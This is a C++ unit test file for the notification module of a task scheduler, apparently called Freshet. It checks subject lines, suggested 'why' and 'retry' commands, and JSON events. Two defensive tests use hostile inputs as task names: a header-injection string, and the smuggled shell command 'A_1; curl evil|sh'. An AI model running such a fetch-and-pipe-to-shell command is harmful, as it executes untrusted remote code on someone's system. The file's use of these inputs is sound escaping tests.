// SPDX-FileCopyrightText: The Freshet authors
// SPDX-License-Identifier: Apache-2.0
#include "notify/notification.hpp"

#include "support/fake_clock.hpp"

#include <catch2/catch.hpp>

#include <algorithm>

using namespace freshet;
using namespace freshet::notify;
using Catch::Matchers::Contains;

namespace {

constexpr Time now = test::FakeClock::start;

Problem problem(std::string name, ProblemState state = ProblemState::failed, std::string why = "failed: no room") {
    return {.id = name, .state = state, .family = "A", .name = name, .why = std::move(why), .since = now};
}

}  // namespace

TEST_CASE("the subject names one problem, and counts several", "[notify]") {
    CHECK(subject_line({.begun = {problem("A(x=1)")}}) == "A(x=1) failed");
    CHECK(subject_line({.begun = {problem("A(x=1)", ProblemState::disabled)}}) == "A(x=1) is disabled");
    CHECK(subject_line({.recovered = {problem("A(x=1)")}}) == "A(x=1) recovered");
    CHECK(subject_line({.recovered = {problem("A"), problem("B")}}) == "2 recovered: 2 of A");
    CHECK(subject_line({.begun = {problem("A")}, .recovered = {problem("B")}}) == "1 problem, 1 recovered: A");
}

TEST_CASE("the subject of several problems has their families, and the parameters that they share", "[notify]") {
    const auto fetch = [](std::string lead) {
        Problem one = problem("Fetch(day=1, lead=" + lead + ")");
        one.family = "Fetch";
        one.parameters = {{"day", "1"}, {"lead", std::move(lead)}};
        return one;
    };
    Problem report = problem("Report(day=1)");
    report.family = "Report";
    report.parameters = {{"day", "1"}};
    CHECK(subject_line({.begun = {fetch("0"), report, fetch("3")}}) == "3 problems: 2 of Fetch(day=1), Report(day=1)");
}

TEST_CASE("below a problem are its page and the commands for it", "[notify]") {
    const SchedulerContact contact{.url = "https://freshet.example.org",
                                   .options = "--scheduler https://freshet.example.org"};
    ProblemChanges changes{.begun = {problem("A_1")}};
    CHECK_THAT(message_text(changes, contact),
               Contains("    https://freshet.example.org/task/A_1\n"
                        "    freshet why A_1 --scheduler https://freshet.example.org\n"
                        "    freshet retry A_1 --scheduler https://freshet.example.org\n"));
    changes.begun[0].is_removed = true;
    CHECK_THAT(message_text(changes, {}), Contains("    freshet why A_1\n") && !Contains("retry"));
    const auto event = make_notification({}, changes, contact);
    CHECK(event.data.at("problems").as_array().at(0).at("url").as_string() == "https://freshet.example.org/task/A_1");
}

TEST_CASE("the text has a line for each problem, and counts what is too much", "[notify]") {
    ProblemChanges changes{.recovered = {problem("Z")}};
    for (int i = 0; i < 22; ++i) changes.begun.push_back(problem("A_" + std::to_string(i)));
    const std::string text = message_text(changes, {});
    CHECK_THAT(text, Contains("failed: A_0 failed: no room (since 20"));
    CHECK_THAT(text, Contains("and 2 more\n"));
    CHECK_THAT(text, Contains("recovered: Z (failed since 20"));
    CHECK(std::ranges::count(text, '\n') == 22 + 2 * 20);
}

TEST_CASE("control characters and line breaks of a name cannot forge a line", "[notify]") {
    const ProblemChanges changes{.begun = {problem("A\r\nBcc: all@x\x1b[0m")}};
    CHECK(subject_line(changes).find_first_of("\r\n\x1b") == std::string::npos);
    CHECK(std::ranges::count(message_text(changes, {}), '\n') == 1);
}

TEST_CASE("the id of a task is one word of the commands, whatever a client named it", "[notify]") {
    const std::string text = message_text({.begun = {problem("A_1; curl evil|sh")}}, {.options = "--state '/a b'"});
    CHECK_THAT(text, Contains("    freshet why 'A_1; curl evil|sh' --state '/a b'\n"
                              "    freshet retry 'A_1; curl evil|sh' --state '/a b'\n"));
}

TEST_CASE("a task that no command line can name has a page and no commands", "[notify]") {
    for (const std::string& id : {std::string("--all"), std::string("A\x1b[0m"), std::string(300, 'A')}) {
        const std::string text = message_text({.begun = {problem(id)}}, {.url = "http://host"});
        CHECK_THAT(text, Contains("    http://host/task/") && !Contains("freshet "));
    }
}

TEST_CASE("a full disk of a worker is the problem of a task, that of the state is not", "[notify]") {
    const SchedulerContact contact{.url = "http://host"};
    ProblemChanges changes{.begun = {problem("A_1", ProblemState::disk_full)}};
    CHECK_THAT(message_text(changes, contact),
               Contains("    http://host/task/A_1\n    freshet why A_1\n    freshet retry A_1\n"));
    changes.begun[0].id = "disk";
    changes.begun[0].family.clear();
    CHECK_THAT(message_text(changes, contact), Contains("    http://host/\n") && !Contains("freshet "));
}

TEST_CASE("a notification is an event of its rule, with the problems for programs", "[notify]") {
    const auto event = make_notification({.source = "/freshetd", .rule = "ops", .id = "id-1", .time = now},
                                         {.begun = {problem("A")}, .recovered = {problem("B")}}, {});
    CHECK(event.key == "notification ops");
    const Event read = event_from_json(Json::parse(to_json(event).text()));
    CHECK(read.data.at("problems").as_array().at(0).at("state").as_string() == "failed");
    CHECK(read.data.at("recovered").as_array().at(0).at("name").as_string() == "B");
    CHECK_THAT(chat_json(read).at("text").as_string(), Contains("*1 problem, 1 recovered: A*\nfailed: A "));
}
